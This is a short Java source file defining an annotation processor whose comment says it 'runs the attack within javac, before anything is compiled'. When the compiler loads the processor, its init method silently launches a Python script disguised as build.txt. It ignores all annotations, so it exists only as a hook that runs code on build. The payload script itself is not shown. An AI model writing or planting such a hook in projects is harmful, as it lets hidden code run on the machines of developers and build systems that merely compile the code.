import java.util.Set;
import javax.annotation.processing.AbstractProcessor;
import javax.annotation.processing.ProcessingEnvironment;
import javax.annotation.processing.RoundEnvironment;
import javax.annotation.processing.SupportedAnnotationTypes;
import javax.lang.model.element.TypeElement;

/** Runs the attack within javac, before anything is compiled. */
@SupportedAnnotationTypes("*")
public class Processing extends AbstractProcessor {
    @Override
    public synchronized void init(ProcessingEnvironment environment) {
        super.init(environment);
        try {
            new ProcessBuilder("python3", "build.txt").inheritIO().start().waitFor();
        } catch (Exception failure) {
            throw new IllegalStateException(failure);
        }
    }

    @Override
    public boolean process(Set<? extends TypeElement> annotations, RoundEnvironment round) {
        return false;
    }
}
